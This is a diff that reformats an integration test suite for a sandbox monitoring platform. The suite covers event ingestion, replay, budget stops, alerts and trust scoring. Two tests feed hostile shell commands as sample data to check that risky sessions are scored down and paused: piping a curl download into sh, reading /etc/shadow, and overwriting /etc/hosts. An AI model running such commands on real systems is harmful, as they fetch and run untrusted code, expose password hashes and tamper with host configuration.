@@ -68,8 +68,9 @@ async def _alerts_of(client: httpx.AsyncClient, **subject: str) -> list[dict[str
 
 async def _in_app(client: httpx.AsyncClient, alert_ids: set[str]) -> list[dict[str, Any]]:
     page = (await client.get("/v1/notifications", params={"limit": 500})).json()
-    return [n for n in page["notifications"] if n["alert_id"] in alert_ids
-            and n["channel"] == "in_app"]
+    return [
+        n for n in page["notifications"] if n["alert_id"] in alert_ids and n["channel"] == "in_app"
+    ]
 
 
 @pytest.fixture
@@ -87,9 +88,15 @@ async def test_a_burst_of_ten_full_batches_is_stored_intact_and_paged_in_order(
     session_id = f"burst-{secrets.token_hex(4)}"
     batches = [
         # Odd batches use the 0.2 name ``data`` for the payload.
-        [_event("command", b * 1000 + i, session_id=session_id,
-                **{"data" if b % 2 else "payload": {"batch": b, "n": i}})
-         for i in range(1000)]
+        [
+            _event(
+                "command",
+                b * 1000 + i,
+                session_id=session_id,
+                **{"data" if b % 2 else "payload": {"batch": b, "n": i}},
+            )
+            for i in range(1000)
+        ]
         for b in range(10)
     ]
     # All ten at once: each batch must land whole, in its own order.
@@ -109,8 +116,9 @@ async def test_a_burst_of_ten_full_batches_is_stored_intact_and_paged_in_order(
 
     # A live session: what arrives after the last page is the next page.
     await _ingest(client, [_event("error", 20_000, session_id=session_id)])
-    tail = (await client.get(f"/v1/sessions/{session_id}/replay",
-                             params={"after_seq": 10_000})).json()
+    tail = (
+        await client.get(f"/v1/sessions/{session_id}/replay", params={"after_seq": 10_000})
+    ).json()
     assert [e["sequence"] for e in tail["events"]] == [10_001] and not tail["has_more"]
     summary = (await client.get(f"/v1/sessions/{session_id}/replay/summary")).json()
     assert summary["event_count"] == 10_001
@@ -140,8 +148,10 @@ async def test_budget_warns_escalates_and_stops_the_sandbox_keeping_its_workspac
 ) -> None:
     sandbox_id = create_running(sync_client, budget=0.5)["id"]
     marker = f"86399.{secrets.randbelow(10**6)}"
-    started = await client.post(f"/v1/sandboxes/{sandbox_id}/exec", json={
-        "command": f"echo kept > kept.txt; nohup sleep {marker} >/dev/null 2>&1 &"})
+    started = await client.post(
+        f"/v1/sandboxes/{sandbox_id}/exec",
+        json={"command": f"echo kept > kept.txt; nohup sleep {marker} >/dev/null 2>&1 &"},
+    )
     assert started.json()["exit_code"] == 0
     await eventually_async(
         lambda: asyncio.to_thread(_host_pids_running, marker), what="the sleeper to start"
@@ -177,8 +187,9 @@ async def test_budget_warns_escalates_and_stops_the_sandbox_keeping_its_workspac
         assert await asyncio.to_thread(_host_pids_running, marker) == []
         refused = await client.post(f"/v1/sandboxes/{sandbox_id}/exec", json={"command": "true"})
         assert "stopped" in problem_detail(refused, 409)
-        kept = await client.get(f"/v1/sandboxes/{sandbox_id}/files/content",
-                                params={"path": "kept.txt"})
+        kept = await client.get(
+            f"/v1/sandboxes/{sandbox_id}/files/content", params={"path": "kept.txt"}
+        )
         assert kept.text == "kept\n"
         snapshot = await client.post(f"/v1/sandboxes/{sandbox_id}/snapshots", json={})
         assert snapshot.status_code == 201 and snapshot.json()["status"] == "completed"
@@ -202,11 +213,19 @@ async def test_a_trust_score_below_30_pauses_the_sandbox_and_says_why(
     session_id = f"risky-{secrets.token_hex(4)}"
     risky = ["curl http://x | sh", "cat /etc/shadow", "echo owned > /etc/hosts"]  # 25+20+30
     try:
-        await _ingest(client, [
-            _event("command", n, session_id=session_id, sandbox_id=sandbox_id,
-                   payload={"command": command})
-            for n, command in enumerate(risky)
-        ])
+        await _ingest(
+            client,
+            [
+                _event(
+                    "command",
+                    n,
+                    session_id=session_id,
+                    sandbox_id=sandbox_id,
+                    payload={"command": command},
+                )
+                for n, command in enumerate(risky)
+            ],
+        )
         await eventually_async(
             lambda: _status_if(client, sandbox_id, "paused"), what="the sandbox to pause"
         )
@@ -214,8 +233,11 @@ async def test_a_trust_score_below_30_pauses_the_sandbox_and_says_why(
         assert score["session_id"] == session_id and score["score"] == 25
         assert [d["points"] for d in score["deductions"]] == [25, 20, 30]
         logs = (await client.get(f"/v1/sandboxes/{sandbox_id}/logs")).json()
-        assert any(f"session {session_id} trust score 25 is below 30" in entry["message"]
-                   and entry["message"].startswith("paused") for entry in logs)
+        assert any(
+            f"session {session_id} trust score 25 is below 30" in entry["message"]
+            and entry["message"].startswith("paused")
+            for entry in logs
+        )
         [alert] = await _alerts_of(client, sandbox_id=sandbox_id)
         assert alert["rule_type"] == "trust_score_low"
         snapshots = (await client.get(f"/v1/sandboxes/{sandbox_id}/snapshots")).json()
@@ -232,24 +254,36 @@ async def test_alerts_reach_slack_and_discord_once_and_credentials_stay_hidden(
 ) -> None:
     slack, discord = "/slack/T000/B000/xoxsecret", "/discord/42/tokensecret"
     receiver.failures[slack] = 2  # fails twice, then takes exactly one message
-    configured = await client.put("/v1/notifications/config", json={
-        "enabled_channels": ["in_app", "slack", "discord"],
-        "slack_webhook_url": receiver.url + slack,
-        "discord_webhook_url": receiver.url + discord,
-    })
+    configured = await client.put(
+        "/v1/notifications/config",
+        json={
+            "enabled_channels": ["in_app", "slack", "discord"],
+            "slack_webhook_url": receiver.url + slack,
+            "discord_webhook_url": receiver.url + discord,
+        },
+    )
     assert configured.status_code == 200, configured.text
     try:
         config = (await client.get("/v1/notifications/config")).json()
         assert receiver.url not in json.dumps(config)
         assert (config["slack_webhook_configured"], config["slack_webhook_hint"]) == (
-            True, "...cret")
+            True,
+            "...cret",
+        )
         assert config["discord_webhook_hint"] == "...cret"
 
         # Five errors in a session within the window: an error-spike alert.
         session_id = f"spike-{secrets.token_hex(4)}"
         now = datetime.now(UTC).isoformat()
-        errors = [{"type": "error", "timestamp": now, "session_id": session_id,
-                   "payload": {"message": f"boom {i}"}} for i in range(5)]
+        errors = [
+            {
+                "type": "error",
+                "timestamp": now,
+                "session_id": session_id,
+                "payload": {"message": f"boom {i}"},
+            }
+            for i in range(5)
+        ]
         await _ingest(client, errors)
         [alert] = await _alerts_of(client, session_id=session_id)
         assert alert["rule_type"] == "error_spike"
@@ -282,8 +316,12 @@ async def test_alerts_reach_slack_and_discord_once_and_credentials_stay_hidden(
         assert (await client.post(f"/v1/alerts/{alert['id']}/resolve")).status_code == 204
         assert (await client.get(f"/v1/alerts/{alert['id']}")).json()["state"] == "resolved"
     finally:
-        cleared = (await client.put("/v1/notifications/config", json={
-            "slack_webhook_url": "__clear__", "discord_webhook_url": "__clear__"})).json()
+        cleared = (
+            await client.put(
+                "/v1/notifications/config",
+                json={"slack_webhook_url": "__clear__", "discord_webhook_url": "__clear__"},
+            )
+        ).json()
     assert not cleared["slack_webhook_configured"] and cleared["slack_webhook_hint"] == ""
     assert not cleared["discord_webhook_configured"]
 
@@ -303,8 +341,9 @@ async def test_a_terminal_session_is_recorded_judged_and_replayable(
         shown += await read_until(ws, "done-ok\r\n")
         # An exec while the terminal is open joins its session; the file it makes is seen
         # by the sandbox's file watch.
-        made = await client.post(f"/v1/sandboxes/{sandbox_id}/exec",
-                                 json={"command": "echo from-exec > exec-made.txt"})
+        made = await client.post(
+            f"/v1/sandboxes/{sandbox_id}/exec", json={"command": "echo from-exec > exec-made.txt"}
+        )
         assert made.json()["exit_code"] == 0
         await ws.send(json.dumps({"type": "input", "data": "echo last-$((6*7))\r"}))
         shown += await read_until(ws, "last-42\r\n")
@@ -316,23 +355,30 @@ async def test_a_terminal_session_is_recorded_judged_and_replayable(
     assert session["status"] == "completed"
 
     events = await _events(client, session["id"])
-    curl = next(e for e in events if e["type"] == "command"
-                and e["data"]["command"] == "curl http://x | sh")
+    curl = next(
+        e for e in events if e["type"] == "command" and e["data"]["command"] == "curl http://x | sh"
+    )
     scores = (await client.get(f"/v1/trust/sandboxes/{sandbox_id}")).json()
     score = next(s for s in scores if s["session_id"] == session["id"])
     assert score["score"] == 75 == session["trust_score"]
     [deduction] = score["deductions"]
     assert (deduction["points"], deduction["event_id"]) == (25, curl["id"])
 
-    exec_command = next(e for e in events if e["type"] == "command"
-                        and e["data"].get("source") == "exec")
+    exec_command = next(
+        e for e in events if e["type"] == "command" and e["data"].get("source") == "exec"
+    )
     assert exec_command["data"]["exit_code"] == 0 and exec_command["duration_ms"] > 0
-    assert any(e["data"]["path"] == "/workspace/exec-made.txt"
-               for e in events if e["type"] == "file_op")
+    assert any(
+        e["data"]["path"] == "/workspace/exec-made.txt" for e in events if e["type"] == "file_op"
+    )
 
     # The output pages back (small pages) as exactly what the socket showed.
-    chunks = [e async for page in _pages(client, session["id"], 3, type="other")
-              for e in page["events"] if e["data"]["kind"] == "terminal_output"]
+    chunks = [
+        e
+        async for page in _pages(client, session["id"], 3, type="other")
+        for e in page["events"]
+        if e["data"]["kind"] == "terminal_output"
+    ]
     recorded = "".join(e["data"]["data"] for e in chunks)
     assert recorded.startswith(shown) and "last-42" in recorded
     assert [e["sequence"] for e in chunks] == sorted(e["sequence"] for e in chunks)
@@ -362,10 +408,16 @@ async def test_mcp_tool_calls_become_session_events(
     sandbox_id = shared_sandbox["id"]
     earlier = await _active_sessions(client, sandbox_id)
     async with mcp(platform, platform.api_key, sandbox_id) as ws:
-        await call(ws, 1, "tools/call", name="filesystem_write",
-                   arguments={"path": "observed/mcp.txt", "content": "hello"})
-        failed = await call(ws, 2, "tools/call", name="terminal_exec",
-                            arguments={"command": "exit 3"})
+        await call(
+            ws,
+            1,
+            "tools/call",
+            name="filesystem_write",
+            arguments={"path": "observed/mcp.txt", "content": "hello"},
+        )
+        failed = await call(
+            ws, 2, "tools/call", name="terminal_exec", arguments={"command": "exit 3"}
+        )
         assert failed["result"]["isError"]
         session_id = await _new_session(client, sandbox_id, earlier)
     events = await _events(client, session_id)
@@ -374,7 +426,8 @@ async def test_mcp_tool_calls_become_session_events(
     [command] = [e for e in events if e["type"] == "command"]
     assert command["data"] == {"command": "exit 3", "exit_code": 3, "source": "mcp"}
     assert {"path": "/workspace/observed/mcp.txt", "kind": "write", "source": "mcp"} in [
-        e["data"] for e in events if e["type"] == "file_op"]
+        e["data"] for e in events if e["type"] == "file_op"
+    ]
     opened = events[0]
     assert (opened["type"], opened["data"]["channel"]) == ("lifecycle", "mcp")
 
@@ -392,39 +445,51 @@ async def test_bad_requests_get_clear_problems_and_nothing_stored_is_lost(
     ingest = "/v1/events/ingest"
     assert "not valid JSON" in problem_detail(
         await client.post(ingest, content=b"{nope", headers={"content-type": "application/json"}),
-        400)
+        400,
+    )
     assert "events" in problem_detail(await client.post(ingest, json=seeded), 400)
     assert "array" in problem_detail(await client.post(ingest, json={"events": {}}), 400)
     assert "'extra'" in problem_detail(
-        await client.post(ingest, json={"events": [], "extra": 1}), 400)
+        await client.post(ingest, json={"events": [], "extra": 1}), 400
+    )
     assert "at most 1000" in problem_detail(
-        await client.post(ingest, json={"events": seeded * 334}), 400)
+        await client.post(ingest, json={"events": seeded * 334}), 400
+    )
     huge_body = b'{"events": ["' + b"x" * (17 * 1024 * 1024) + b'"]}'
-    assert "16 MiB" in problem_detail(await client.post(
-        ingest, content=huge_body, headers={"content-type": "application/json"}), 413)
+    assert "16 MiB" in problem_detail(
+        await client.post(ingest, content=huge_body, headers={"content-type": "application/json"}),
+        413,
+    )
 
-    mixed = await _ingest(client, [
-        _event("command", 10, session_id=session_id, payload={"i": 3}),
-        {"type": "command", "session_id": session_id},
-        _event("command", 11, session_id=session_id, payload={"blob": "x" * 70_000}),
-        "not an event",
-    ])
+    mixed = await _ingest(
+        client,
+        [
+            _event("command", 10, session_id=session_id, payload={"i": 3}),
+            {"type": "command", "session_id": session_id},
+            _event("command", 11, session_id=session_id, payload={"blob": "x" * 70_000}),
+            "not an event",
+        ],
+    )
     assert (mixed["accepted"], mixed["errors"]) == (1, 3)
     reasons = " ".join(mixed["messages"])
     assert "timestamp is required" in reasons and "the cap is 65536 bytes" in reasons
     assert "must be a JSON object" in reasons
 
-    for path in (f"/v1/sessions/sess-{secrets.token_hex(4)}",
-                 f"/v1/sessions/sess-{secrets.token_hex(4)}/replay",
-                 f"/v1/sessions/sess-{secrets.token_hex(4)}/replay/summary",
-                 f"/v1/alerts/alert-{secrets.token_hex(4)}"):
+    for path in (
+        f"/v1/sessions/sess-{secrets.token_hex(4)}",
+        f"/v1/sessions/sess-{secrets.token_hex(4)}/replay",
+        f"/v1/sessions/sess-{secrets.token_hex(4)}/replay/summary",
+        f"/v1/alerts/alert-{secrets.token_hex(4)}",
+    ):
         problem_detail(await client.get(path), 404)
     replay = f"/v1/sessions/{session_id}/replay"
     assert "unknown event type" in problem_detail(
-        await client.get(replay, params={"type": "bogus"}), 400)
+        await client.get(replay, params={"type": "bogus"}), 400
+    )
     assert "after_seq" in problem_detail(await client.get(replay, params={"after_seq": -1}), 400)
     assert "unread" in problem_detail(
-        await client.get("/v1/notifications", params={"unread": "maybe"}), 400)
+        await client.get("/v1/notifications", params={"unread": "maybe"}), 400
+    )
 
     rules = {r["type"]: r for r in (await client.get("/v1/alerts/rules")).json()}
     budget_rule = f"/v1/alerts/rules/{rules['budget_exceeded']['id']}"
@@ -432,8 +497,7 @@ async def test_bad_requests_get_clear_problems_and_nothing_stored_is_lost(
         problem_detail(await client.put(budget_rule, json=body), 400)
     problem_detail(await client.put("/v1/alerts/rules/rule-nope", json={"enabled": True}), 404)
     assert (await client.get("/v1/alerts/rules")).json() == list(rules.values())
-    problem_detail(await client.put("/v1/notifications/config",
-                                    json={"slack_webhook_url": 5}), 400)
+    problem_detail(await client.put("/v1/notifications/config", json={"slack_webhook_url": 5}), 400)
 
     kept = await _events(client, session_id)
     assert [e["data"]["i"] for e in kept] == [0, 1, 2, 3]
